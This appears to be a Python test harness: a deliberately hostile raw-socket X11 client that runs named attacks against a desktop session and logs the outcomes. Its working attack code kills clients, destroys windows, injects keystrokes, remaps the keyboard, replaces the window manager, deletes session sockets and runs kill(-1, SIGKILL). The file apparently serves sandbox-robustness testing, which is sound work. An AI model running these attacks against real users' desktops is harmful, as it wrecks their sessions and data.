"""An X client that means harm, written on the bare socket: it guesses numbers of extensions and does not care for errors.

It waits for the name of an attack in the file `attack`, tries it, and appends what came of it to the file `tried`.
"""

import os, signal, socket, struct, time


class Client:
    def __init__(self):
        self.socket = socket.socket(socket.AF_UNIX)
        self.socket.connect("/tmp/.X11-unix/X0")
        self.socket.sendall(struct.pack("<BxHHHHxx", 0x6C, 11, 0, 0, 0))
        head = self.read(8)
        data = head + self.read(4 * struct.unpack("<H", head[6:8])[0])
        (self.base,) = struct.unpack_from("<I", data, 12)
        vendor, formats = struct.unpack_from("<H", data, 24)[0], data[29]
        (self.root,) = struct.unpack_from("<I", data, 40 + (vendor + 3) // 4 * 4 + 8 * formats)

    def read(self, length):
        data = b""
        while len(data) < length:
            piece = self.socket.recv(length - len(data))
            if not piece:
                raise ConnectionError("closed")
            data += piece
        return data

    def send(self, major, data=0, body=b""):
        self.socket.sendall(struct.pack("<BBH", major, data, 1 + len(body) // 4) + body)

    def ask(self, major, data=0, body=b""):
        """The answer, past all errors and events before it."""
        self.send(major, data, body)
        while True:
            answer = self.read(32)
            if answer[0] == 1:
                return answer + self.read(4 * struct.unpack_from("<I", answer, 4)[0])

    def sync(self):
        self.ask(43)

    def atom(self, name):
        text = name.encode()
        body = struct.pack("<HH", len(text), 0) + text + bytes(-len(text) % 4)
        return struct.unpack_from("<I", self.ask(16, 0, body), 8)[0]

    def extension(self, name):
        text = name.encode()
        answer = self.ask(98, 0, struct.pack("<HH", len(text), 0) + text + bytes(-len(text) % 4))
        return answer[9] if answer[8] else None

    def manager(self):
        """The window manager's own window."""
        body = struct.pack("<IIIII", self.root, self.atom("_NET_SUPPORTING_WM_CHECK"), 0, 0, 1)
        return struct.unpack_from("<I", self.ask(20, 0, body), 32)[0]

    def message(self, name, *data):
        words = list(data) + [0] * (5 - len(data))
        event = struct.pack("<BBHII5I", 33, 32, 0, self.root, self.atom(name), *words)
        self.send(25, 0, struct.pack("<II", self.root, 0x180000) + event)


def hold_the_server(x):
    x.send(36)


def kill_clients(x):
    manager = x.manager()
    x.send(112, 2)
    for victim in [manager, 0, *(number << 21 for number in range(1, 30))]:
        if victim != x.base:
            x.send(113, 0, struct.pack("<I", victim))


def destroy_windows(x):
    x.send(4, 0, struct.pack("<I", x.manager()))
    x.send(5, 0, struct.pack("<I", x.root))
    # The first clients are the desk's own; programs may close each other's windows.
    for client in range(1, 4):
        for number in range(2000):
            x.send(4, 0, struct.pack("<I", (client << 21) + number))


def press_keys(x):
    key = struct.pack("<BBxxIIxxxxxxxxhhxxxxxxxx", 2, 38, 0, 0, 0, 0)
    for major in range(128, 256):
        x.send(major, 2, key)
        x.send(major, 2, b"\x03" + key[1:])
    event = struct.pack("<BBHIIIIhhhhHBx", 2, 38, 0, 0, x.root, 0, 0, 0, 0, 0, 0, 0, 1)
    x.send(25, 0, struct.pack("<II", 1, 1) + event)


def change_the_keyboard(x):
    x.send(100, 200, struct.pack("<BBxx", 8, 1) + struct.pack("<200I", *[0x61] * 200))
    x.send(102, 0, struct.pack("<II", 0x80, 1))
    x.send(116, 3, b"\3\2\1\0")
    x.send(41, 0, struct.pack("<IIhhHHhh", 0, x.root, 0, 0, 0, 0, 3, 3))


def resize_the_screen(x):
    randr = x.extension("RANDR")
    x.send(randr, 7, struct.pack("<IHHII", x.root, 640, 480, 169, 127))


def end_the_manager(x):
    for what in (3, 2):
        x.message("_OB_CONTROL", what)
    x.message("_NET_NUMBER_OF_DESKTOPS", 0xFFFFFFF0)


def replace_the_manager(x):
    manager, selection = x.manager(), x.atom("WM_S0")
    x.send(1, 0, struct.pack("<IIhhHHHHII", x.base + 1, x.root, 0, 0, 1, 1, 0, 1, 0, 0))
    x.send(22, 0, struct.pack("<III", x.base + 1, selection, 0))
    event = struct.pack("<BxHIII16x", 29, 0, 0, manager, selection)
    x.send(25, 0, struct.pack("<II", manager, 0) + event)
    x.send(19, 0, struct.pack("<II", x.root, x.atom("_NET_SUPPORTING_WM_CHECK")))


def name_a_process(x):
    """Whom the window manager ends when this window does not answer."""
    x.send(1, 0, struct.pack("<IIhhHHHHII", x.base + 1, x.root, 0, 0, 9, 9, 0, 1, 0, 0))
    x.send(18, 0, struct.pack("<IIIBxxxIi", x.base + 1, x.atom("_NET_WM_PID"), 6, 32, 1, -1))
    answer = x.ask(20, 0, struct.pack("<IIIII", x.base + 1, x.atom("_NET_WM_PID"), 0, 0, 1))
    return "is set" if answer[1] else "is not set"


def speak_nonsense(x):
    x.send(0, 0, bytes(4))
    x.sync()
    other = socket.socket(socket.AF_UNIX)
    other.connect("/tmp/.X11-unix/X0")
    return [is_closed(other, b"B" + bytes(4000)), is_closed(x.socket, bytes(4000))]


def is_closed(connection, after):
    try:
        connection.sendall(after)
        return not connection.recv(1)
    except ConnectionError:
        return True


def look_around(x):
    hidden = [name for name in ("XTEST", "RECORD", "SECURITY", "MIT-SHM", "X-Resource") if x.extension(name)]
    names = []
    for process in filter(str.isdigit, os.listdir("/proc")):
        with open(f"/proc/{process}/comm") as file:
            names.append(file.read().strip())
    found = [name for name in ("Xvfb", "openbox", "dbus-daemon") if name in names]
    tried = [
        lambda: os.unlink("/tmp/.X11-unix/X0"),
        lambda: open("/run/session/openbox.xml", "w"),
        lambda: os.unlink("/run/session/bus"),
        lambda: socket.socket(socket.AF_UNIX).connect("\0/tmp/.X11-unix/X0"),
    ]
    for number, attempt in enumerate(tried):
        try:
            attempt()
            found.append(number)
        except OSError:
            pass
    return f"{hidden} {found} {os.listdir('/tmp/.X11-unix')}"


def kill_everybody(x):
    os.kill(-1, signal.SIGKILL)


kept = []
while True:
    try:
        with open("attack") as file:
            name = file.read()
        os.unlink("attack")
    except FileNotFoundError:
        time.sleep(0.01)
        continue
    client = Client()
    kept.append(client)
    said = globals()[name](client)
    if said is None:
        client.sync()
        said = "tried"
    with open("tried", "a") as file:
        file.write(f"{name}: {said}\n")
